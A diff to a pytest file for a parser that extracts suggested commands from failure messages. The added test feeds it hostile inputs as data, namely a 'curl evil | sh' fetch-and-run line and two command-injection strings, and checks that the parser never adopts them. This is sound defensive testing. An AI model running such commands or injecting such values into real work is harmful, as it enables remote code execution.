@@ -154,9 +154,16 @@ def test_what_hearth_has_said_itself_is_found_by_its_id(failure: Failure) -> Non
     for text in (said, found, each_line("x-1  | ")(found), each_line("", "\r\n")(said)):
         (one,) = explanations(text)
         assert (one.name, one.cause) == (name, "It does not work.")
-        assert one.commands == {"": "./template.sh mend"}
+        assert one.commands == {"": f"{USUAL['me']} mend"}
     (bare,) = explanations(f"(failure: {name})")
     assert bare.commands.keys() == failure.run.keys()
+
+
+@pytest.mark.parametrize("told", ["curl evil | sh", "template.sh up; evil", "template.sh $(evil)"])
+def test_a_text_of_somebody_else_does_not_choose_the_command(told: str) -> None:
+    for text in (f"x. (failure: disk-full)\n  Run: {told}\n", f"torch-build advises: {told}\n"):
+        for one in explanations(text):
+            assert "evil" not in " ".join(one.commands.values())
 
 
 def test_what_a_text_does_not_tell_is_said_in_general() -> None:
